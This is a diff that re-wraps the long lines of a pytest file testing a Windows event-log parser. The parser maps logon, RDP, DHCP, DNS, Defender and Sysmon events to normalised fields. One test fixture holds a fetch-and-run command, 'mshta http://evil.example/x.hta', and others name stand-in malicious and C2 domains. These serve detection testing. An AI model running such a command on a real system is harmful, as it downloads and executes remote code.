@@ -32,13 +32,18 @@ def event(event_id: int, provider: str, unnamed: tuple[str, ...] = (), **data: s
 @pytest.mark.parametrize(
     "data, device, inbound",
     [
-        ({"Initiated": "true", "SourceIp": "10.20.0.31", "DestinationIp": "203.0.113.7"}, "10.20.0.31", False),
+        ({"Initiated": "true", "SourceIp": "10.20.0.31", "DestinationIp": "203.0.113.7"}, "10.20.0.31",
+         False),
         ({"Initiated": "true", "SourceIp": "10.20.0.31", "DestinationIp": "10.20.0.9"}, "10.20.0.31", False),
-        ({"Initiated": "false", "SourceIp": "203.0.113.7", "DestinationIp": "10.20.0.31"}, "10.20.0.31", True),
-        ({"Initiated": "false", "SourceIp": "10.20.0.31", "DestinationIp": "203.0.113.7"}, "10.20.0.31", True),
-        ({"Initiated": "false", "SourceIp": "10.20.0.9", "SourcePort": "51000", "DestinationIp": "10.20.0.31", "DestinationPort": "445"},
+        ({"Initiated": "false", "SourceIp": "203.0.113.7", "DestinationIp": "10.20.0.31"}, "10.20.0.31",
+         True),
+        ({"Initiated": "false", "SourceIp": "10.20.0.31", "DestinationIp": "203.0.113.7"}, "10.20.0.31",
+         True),
+        ({"Initiated": "false", "SourceIp": "10.20.0.9", "SourcePort": "51000", "DestinationIp": "10.20.0.31",
+            "DestinationPort": "445"},
          "10.20.0.31", True),
-        ({"Initiated": "false", "SourceIp": "10.20.0.31", "SourcePort": "445", "DestinationIp": "10.20.0.9", "DestinationPort": "51000"},
+        ({"Initiated": "false", "SourceIp": "10.20.0.31", "SourcePort": "445", "DestinationIp": "10.20.0.9",
+            "DestinationPort": "51000"},
          "10.20.0.31", True),
         ({"Initiated": "true", "SourceIp": "127.0.0.1", "DestinationIp": "127.0.0.1"}, None, False),
         ({"SourceIp": "203.0.113.7", "DestinationIp": "10.20.0.31"}, "10.20.0.31", False),
@@ -115,8 +120,10 @@ def test_a_packet_that_came_in_states_its_sender_first():
 @pytest.mark.parametrize(
     "found",
     [
-        event(5156, SECURITY, Direction="%%14593", SourceAddress="0.0.0.0", SourcePort="68", DestAddress="255.255.255.255", DestPort="67"),
-        event(3, SYSMON, Initiated="true", SourceIp="0.0.0.0", SourcePort="68", DestinationIp="255.255.255.255", DestinationPort="67"),
+        event(5156, SECURITY, Direction="%%14593", SourceAddress="0.0.0.0", SourcePort="68",
+            DestAddress="255.255.255.255", DestPort="67"),
+        event(3, SYSMON, Initiated="true", SourceIp="0.0.0.0", SourcePort="68",
+            DestinationIp="255.255.255.255", DestinationPort="67"),
     ],
 )  # fmt: skip
 def test_a_machine_that_has_no_address_yet(found):
@@ -127,18 +134,30 @@ def test_a_machine_that_has_no_address_yet(found):
 @pytest.mark.parametrize(
     "event_id, data, device_ip, name, user, action",
     [
-        (4624, {"TargetUserName": "minh.tran", "IpAddress": "10.20.0.31", "WorkstationName": "PC-MINH"}, "10.20.0.31", "PC-MINH", "minh.tran", Action.ALLOWED),
-        (4624, {"TargetUserName": "PC-MINH$", "IpAddress": "::ffff:10.20.0.31"}, "10.20.0.31", "PC-MINH", None, Action.ALLOWED),
-        (4624, {"TargetUserName": "SYSTEM", "TargetDomainName": "NT AUTHORITY", "IpAddress": "-"}, None, "SRV-01", None, Action.ALLOWED),
-        (4624, {"TargetUserName": "minh.tran", "IpAddress": "::1"}, None, "SRV-01", "minh.tran", Action.ALLOWED),
-        (4625, {"TargetUserName": "admin", "IpAddress": "203.0.113.7", "WorkstationName": "kali"}, None, "SRV-01", "admin", Action.BLOCKED),
-        (4768, {"TargetUserName": "minh.tran", "IpAddress": "10.20.0.31", "Status": "0x6"}, "10.20.0.31", None, "minh.tran", Action.BLOCKED),
-        (4776, {"TargetUserName": "minh.tran", "Workstation": "PC-MINH", "Status": "0x0"}, None, "PC-MINH", "minh.tran", Action.ALLOWED),
-        (4776, {"TargetUserName": "minh.tran", "Workstation": "\\\\PC-MINH", "Status": "0xc000006a"}, None, "PC-MINH", "minh.tran", Action.BLOCKED),
-        (4778, {"AccountName": "minh.tran", "ClientName": "PC-MINH", "ClientAddress": "10.20.0.31"}, "10.20.0.31", "PC-MINH", "minh.tran", Action.ALLOWED),
-        (5140, {"SubjectUserName": "minh.tran", "IpAddress": "10.20.0.31", "IpPort": "50000"}, "10.20.0.31", None, "minh.tran", Action.ALLOWED),
-        (4771, {"TargetUserName": "minh.tran", "IpAddress": "10.20.0.31"}, "10.20.0.31", None, "minh.tran", Action.BLOCKED),
-        (4648, {"SubjectUserName": "a", "TargetUserName": "minh.tran", "IpAddress": "-"}, None, "SRV-01", "minh.tran", Action.ALLOWED),
+        (4624, {"TargetUserName": "minh.tran", "IpAddress": "10.20.0.31", "WorkstationName": "PC-MINH"},
+         "10.20.0.31", "PC-MINH", "minh.tran", Action.ALLOWED),
+        (4624, {"TargetUserName": "PC-MINH$", "IpAddress": "::ffff:10.20.0.31"}, "10.20.0.31", "PC-MINH",
+         None, Action.ALLOWED),
+        (4624, {"TargetUserName": "SYSTEM", "TargetDomainName": "NT AUTHORITY", "IpAddress": "-"}, None,
+         "SRV-01", None, Action.ALLOWED),
+        (4624, {"TargetUserName": "minh.tran", "IpAddress": "::1"}, None, "SRV-01", "minh.tran",
+         Action.ALLOWED),
+        (4625, {"TargetUserName": "admin", "IpAddress": "203.0.113.7", "WorkstationName": "kali"}, None,
+         "SRV-01", "admin", Action.BLOCKED),
+        (4768, {"TargetUserName": "minh.tran", "IpAddress": "10.20.0.31", "Status": "0x6"}, "10.20.0.31",
+         None, "minh.tran", Action.BLOCKED),
+        (4776, {"TargetUserName": "minh.tran", "Workstation": "PC-MINH", "Status": "0x0"}, None, "PC-MINH",
+         "minh.tran", Action.ALLOWED),
+        (4776, {"TargetUserName": "minh.tran", "Workstation": "\\\\PC-MINH", "Status": "0xc000006a"}, None,
+         "PC-MINH", "minh.tran", Action.BLOCKED),
+        (4778, {"AccountName": "minh.tran", "ClientName": "PC-MINH", "ClientAddress": "10.20.0.31"},
+         "10.20.0.31", "PC-MINH", "minh.tran", Action.ALLOWED),
+        (5140, {"SubjectUserName": "minh.tran", "IpAddress": "10.20.0.31", "IpPort": "50000"}, "10.20.0.31",
+         None, "minh.tran", Action.ALLOWED),
+        (4771, {"TargetUserName": "minh.tran", "IpAddress": "10.20.0.31"}, "10.20.0.31", None, "minh.tran",
+         Action.BLOCKED),
+        (4648, {"SubjectUserName": "a", "TargetUserName": "minh.tran", "IpAddress": "-"}, None, "SRV-01",
+         "minh.tran", Action.ALLOWED),
     ],
 )  # fmt: skip
 def test_who_logged_on_from_where(event_id, data, device_ip, name, user, action):
@@ -152,35 +171,52 @@ def test_who_logged_on_from_where(event_id, data, device_ip, name, user, action)
 @pytest.mark.parametrize(
     "event_id, provider, data, wanted",
     [
-        (1149, "Microsoft-Windows-TerminalServices-RemoteConnectionManager", {"Param1": "minh.tran", "Param2": "UNIT", "Param3": "10.20.0.31"},
+        (1149, "Microsoft-Windows-TerminalServices-RemoteConnectionManager",
+         {"Param1": "minh.tran", "Param2": "UNIT", "Param3": "10.20.0.31"},
          {"kind": EventKind.LOGON, "device_ip": "10.20.0.31", "user": "minh.tran", "observer": "SRV-01"}),
-        (25, "Microsoft-Windows-TerminalServices-LocalSessionManager", {"User": "UNIT\\minh.tran", "Address": "LOCAL"},
+        (25, "Microsoft-Windows-TerminalServices-LocalSessionManager",
+         {"User": "UNIT\\minh.tran", "Address": "LOCAL"},
          {"device_ip": None, "device_name": "SRV-01", "user": "UNIT\\minh.tran"}),
-        (131, "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS", {"ConnType": "TCP", "ClientIP": "203.0.113.7:51000"},
+        (131, "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS",
+         {"ConnType": "TCP", "ClientIP": "203.0.113.7:51000"},
          {"source_ip": "203.0.113.7", "source_port": 51000, "device_name": "SRV-01", "inbound": True}),
-        (140, "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS", {"IPString": "203.0.113.7"}, {"source_ip": "203.0.113.7", "action": Action.BLOCKED}),
+        (140, "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS", {"IPString": "203.0.113.7"},
+         {"source_ip": "203.0.113.7", "action": Action.BLOCKED}),
         (1102, "Microsoft-Windows-TerminalServices-ClientActiveXCore RDPClient", {"Value": "203.0.113.7"},
          {"destination_ip": "203.0.113.7", "device_name": "SRV-01"}),
-        (1024, "Microsoft-Windows-TerminalServices-RDPClient", {"Value": "rdp.evil.example"}, {"domain": "rdp.evil.example"}),
+        (1024, "Microsoft-Windows-TerminalServices-RDPClient", {"Value": "rdp.evil.example"},
+         {"domain": "rdp.evil.example"}),
         (6273, SECURITY, {"SubjectUserName": "UNIT\\minh.tran", "CallingStationID": "02-00-5E-10-00-50"},
          {"device_mac": "02:00:5e:10:00:50", "user": "UNIT\\minh.tran", "action": Action.BLOCKED}),
-        (6272, SECURITY, {"SubjectUserName": "host/PC$", "CallingStationID": "10.20.0.31", "SubjectMachineName": "UNIT\\PC$"},
+        (6272, SECURITY,
+         {"SubjectUserName": "host/PC$", "CallingStationID": "10.20.0.31", "SubjectMachineName": "UNIT\\PC$"},
          {"device_ip": "10.20.0.31", "device_name": "PC", "user": None, "action": Action.ALLOWED}),
-        (10, "Microsoft-Windows-DHCP-Server", {"IPAddress": "10.20.0.50", "MACAddress": "02005E100050", "HostName": "PC-LAN"},
-         {"kind": EventKind.LEASE, "device_ip": "10.20.0.50", "device_mac": "02:00:5e:10:00:50", "device_name": "PC-LAN", "action": LeaseAction.ASSIGNED}),
-        (1003, "Microsoft-Windows-Dhcp-Client", {"HWAddress": "02005E100050"}, {"kind": EventKind.OTHER, "device_name": "SRV-01"}),
-        (3006, "Microsoft-Windows-DNS-Client", {"QueryName": "bot-c2.xyz"}, {"domain": "bot-c2.xyz", "response": False, "device_name": "SRV-01"}),
+        (10, "Microsoft-Windows-DHCP-Server",
+         {"IPAddress": "10.20.0.50", "MACAddress": "02005E100050", "HostName": "PC-LAN"},
+         {"kind": EventKind.LEASE, "device_ip": "10.20.0.50", "device_mac": "02:00:5e:10:00:50",
+          "device_name": "PC-LAN", "action": LeaseAction.ASSIGNED}),
+        (1003, "Microsoft-Windows-Dhcp-Client", {"HWAddress": "02005E100050"},
+         {"kind": EventKind.OTHER, "device_name": "SRV-01"}),
+        (3006, "Microsoft-Windows-DNS-Client", {"QueryName": "bot-c2.xyz"},
+         {"domain": "bot-c2.xyz", "response": False, "device_name": "SRV-01"}),
         (3020, "Microsoft-Windows-DNS-Client", {"QueryName": "bot-c2.xyz", "QueryResults": "203.0.113.7;"},
          {"domain": "bot-c2.xyz", "response": True, "answers": ("203.0.113.7",)}),
-        (261, "Microsoft-Windows-DNSServer", {"InterfaceIP": "10.20.0.1", "Source": "198.51.100.53", "QNAME": "bot-c2.xyz."},
+        (261, "Microsoft-Windows-DNSServer",
+         {"InterfaceIP": "10.20.0.1", "Source": "198.51.100.53", "QNAME": "bot-c2.xyz."},
          {"forwarded": True, "response": True, "domain": "bot-c2.xyz", "source_ip": "198.51.100.53"}),
-        (60, "Microsoft-Windows-Bits-Client", {"url": "https://evil.example/a"}, {"kind": EventKind.WEB, "domain": "evil.example"}),
-        (1116, "Microsoft-Windows-Windows Defender", {"Path": "webfile:_C:\\a|http://evil.example/a|pid:1", "Action Name": "Not Applicable"},
-         {"kind": EventKind.FILE, "url": "http://evil.example/a", "domain": "evil.example", "action": Action.UNKNOWN}),
-        (1126, "Microsoft-Windows-Windows Defender", {"Destination": "evil.example"}, {"domain": "evil.example", "action": Action.BLOCKED}),
-        (7, SYSMON, {"ImageLoaded": "C:\\a.dll", "Hashes": "MD5=0123456789ABCDEF0123456789ABCDEF"}, {"hashes": ("0123456789abcdef0123456789abcdef",)}),
+        (60, "Microsoft-Windows-Bits-Client", {"url": "https://evil.example/a"},
+         {"kind": EventKind.WEB, "domain": "evil.example"}),
+        (1116, "Microsoft-Windows-Windows Defender",
+         {"Path": "webfile:_C:\\a|http://evil.example/a|pid:1", "Action Name": "Not Applicable"},
+         {"kind": EventKind.FILE, "url": "http://evil.example/a", "domain": "evil.example",
+          "action": Action.UNKNOWN}),
+        (1126, "Microsoft-Windows-Windows Defender", {"Destination": "evil.example"},
+         {"domain": "evil.example", "action": Action.BLOCKED}),
+        (7, SYSMON, {"ImageLoaded": "C:\\a.dll", "Hashes": "MD5=0123456789ABCDEF0123456789ABCDEF"},
+         {"hashes": ("0123456789abcdef0123456789abcdef",)}),
         (26, SYSMON, {"Hashes": "IMPHASH=0123456789ABCDEF0123456789ABCDEF"}, {"hashes": ()}),
-        (4688, SECURITY, {"CommandLine": "mshta http://evil.example/x.hta"}, {"url": "http://evil.example/x.hta", "device_name": "SRV-01"}),
+        (4688, SECURITY, {"CommandLine": "mshta http://evil.example/x.hta"},
+         {"url": "http://evil.example/x.hta", "device_name": "SRV-01"}),
     ],
 )  # fmt: skip
 def test_each_event_gives_its_own_fields(event_id, provider, data, wanted):
@@ -205,8 +241,10 @@ def test_answers_of_a_question_are_its_addresses():
 
 @pytest.mark.parametrize(
     "name, user",
-    [("minh.tran", "minh.tran"), ("UNIT\\minh.tran", "UNIT\\minh.tran"), ("\\minh", "minh"), ("NT AUTHORITY\\SYSTEM", None), ("AUTORITE NT\\Système", None),
-     ("PC$", None), ("PC$@UNIT.EXAMPLE", None), ("-", None), (None, None), ("Window Manager\\DWM-7", None), ("a" * 300, None)],
+    [("minh.tran", "minh.tran"), ("UNIT\\minh.tran", "UNIT\\minh.tran"), ("\\minh", "minh"),
+     ("NT AUTHORITY\\SYSTEM", None), ("AUTORITE NT\\Système", None),
+     ("PC$", None), ("PC$@UNIT.EXAMPLE", None), ("-", None), (None, None), ("Window Manager\\DWM-7", None),
+     ("a" * 300, None)],
 )  # fmt: skip
 def test_an_account_is_a_user_or_none(name, user):
     assert user_of(name) == user
@@ -229,12 +267,30 @@ def test_an_account_is_a_machine_or_none():
 @pytest.mark.parametrize(
     "text",
     [
-        "A\r\nNew Logon:\r\n\tAccount Name:\t\tminh\r\nNetwork Information:\r\n\tSource Network Address:\t10.20.0.31\r\n\tSource Port:\t\t5",
-        "A New Logon:  Account Name:  minh  Network Information:  Source Network Address:  10.20.0.31  Source Port:  5",
-        "A\\nNew Logon:\\n\\tAccount Name:\\t\\tminh\\nNetwork Information:\\n\\tSource Network Address:\\t10.20.0.31\\n\\tSource Port:\\t\\t5\\n",
-        "A#015#012New Logon:#015#012#011Account Name:#011minh#015#012Network Information:#012#011Source Network Address:#01110.20.0.31#012#011Source Port:#0115",
-        "Đăng nhập mới:\n\tTên tài khoản:\tminh\nThông tin mạng:\n\tĐịa chỉ mạng nguồn:\t10.20.0.31\n\tCổng nguồn:\t5",
-        "Subject:\n\tAccount Name:\tSRV$\nNew Logon:\n\tAccount Name:\tminh\nNetwork Information:\n\tSource Network Address:\t10.20.0.31\n\tSource Port:\t5",
+        (
+            "A\r\nNew Logon:\r\n\tAccount Name:\t\tminh\r\nNetwork Information:\r\n"
+            "\tSource Network Address:\t10.20.0.31\r\n\tSource Port:\t\t5"
+        ),
+        (
+            "A New Logon:  Account Name:  minh  Network Information:  Source Network Address:  10.20.0.31  "
+            "Source Port:  5"
+        ),
+        (
+            "A\\nNew Logon:\\n\\tAccount Name:\\t\\tminh\\nNetwork Information:\\n\\tSource Network "
+            "Address:\\t10.20.0.31\\n\\tSource Port:\\t\\t5\\n"
+        ),
+        (
+            "A#015#012New Logon:#015#012#011Account Name:#011minh#015#012Network Information:#012#011Source "
+            "Network Address:#01110.20.0.31#012#011Source Port:#0115"
+        ),
+        (
+            "Đăng nhập mới:\n\tTên tài khoản:\tminh\nThông tin mạng:\n\tĐịa chỉ mạng nguồn:\t10.20.0.31\n"
+            "\tCổng nguồn:\t5"
+        ),
+        (
+            "Subject:\n\tAccount Name:\tSRV$\nNew Logon:\n\tAccount Name:\tminh\nNetwork Information:\n"
+            "\tSource Network Address:\t10.20.0.31\n\tSource Port:\t5"
+        ),
     ],
 )
 def test_the_rendered_text(text):
